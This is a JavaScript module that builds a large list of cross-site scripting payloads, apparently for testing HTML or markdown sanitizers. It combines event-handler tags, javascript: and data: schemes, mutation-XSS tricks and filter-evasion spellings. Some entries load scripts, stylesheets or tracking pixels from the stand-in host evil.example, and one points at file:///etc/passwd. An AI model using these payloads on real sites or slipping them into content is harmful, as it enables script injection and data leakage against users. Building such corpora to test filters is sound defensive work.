// Words that would run in a page that reads them as HTML, made from parts so that there are as many as one likes.
const EVENTS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onbegin', 'onstart'];
const TAGS = [
  (event) => `<img src=x ${event}=alert(1)>`,
  (event) => `<svg ${event}=alert(1)>`,
  (event) => `<svg><animate ${event}=alert(1) attributeName=x dur=1s>`,
  (event) => `<body ${event}=alert(1)>`,
  (event) => `<details open ${event}=alert(1)>x</details>`,
  (event) => `<input autofocus ${event}=alert(1)>`,
  (event) => `<video src=x ${event}=alert(1)></video>`,
  (event) => `<marquee ${event}=alert(1)>x</marquee>`,
  (event) => `"><img src=x ${event}="alert(1)">`,
  (event) => `'><svg/${event}='alert(1)'>`,
  (event) => `</title><img/src=x/${event}=alert(1)>`,
  (event) => `<IMG SRC=x ${event.toUpperCase()}=alert(1)>`,
];
const SCHEMES = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'vbscript:msgbox(1)', 'blob:https://x/1', 'file:///etc/passwd', '//evil.example/x', 'https://user:pass@evil.example', 'feed:javascript:alert(1)', 'view-source:javascript:alert(1)'];
const LINKS = [
  (href) => href,
  (href) => `<a href="${href}">x</a>`,
  (href) => `[x](${href})`,
  (href) => `[x](<${href}>)`,
  (href) => `![x](${href})`,
  (href) => `<${href}>`,
  (href) => `[x][1]\n\n[1]: ${href}`,
  (href) => `<iframe src="${href}"></iframe>`,
  (href) => `<form action="${href}"><button>x</button></form>`,
  (href) => `<object data="${href}"></object>`,
  (href) => `<base href="${href}">`,
  (href) => `<meta http-equiv=refresh content="0;url=${href}">`,
];
const WHOLE = [
  '<script>alert(1)</script>', '<ScRiPt>alert(1)</sCrIpT>', '<script src=//evil.example/x.js></script>', '<script>alert(1)//', '<scr<script>ipt>alert(1)</script>',
  '<style>@import url(//evil.example/x.css)</style>', '<link rel=stylesheet href=//evil.example/x.css>', '<img src=//evil.example/pixel.png>', '![](https://evil.example/pixel.png)', '![x][p]\n\n[p]: https://evil.example/p.png',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<template><script>alert(1)</script></template>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<x-lit .innerHTML=${alert(1)}>', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '\\<img src=x onerror=alert(1)>', '`<img src=x onerror=alert(1)>`', '$$\\href{javascript:alert(1)}{x}$$', '<svg><script>alert(1)</script></svg>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></use></svg>',
];

export function payloads(count) {
  const all = [...WHOLE];
  for (const tag of TAGS) for (const event of EVENTS) all.push(tag(event));
  for (const link of LINKS) for (const scheme of SCHEMES) all.push(link(scheme));
  // Variations in spelling, which filters that look for words fall for.
  const spelled = [
    (text) => text.replaceAll('<', '\u0000<'),
    (text) => text.replaceAll('=', ' = '),
    (text) => text.replaceAll(' ', '/'),
    (text) => `**${text}**`,
    (text) => text.replaceAll('alert(1)', 'alert`1`'),
    (text) => text.replaceAll('alert', '\\u0061lert'),
  ];
  for (let round = 0; all.length < count && round < spelled.length; round += 1) all.push(...all.slice(0, 300).map(spelled[round]));
  // The first of them are of every kind.
  const step = Math.max(1, Math.floor(all.length / count));
  return all.filter((_, at) => at % step === 0).slice(0, count);
}
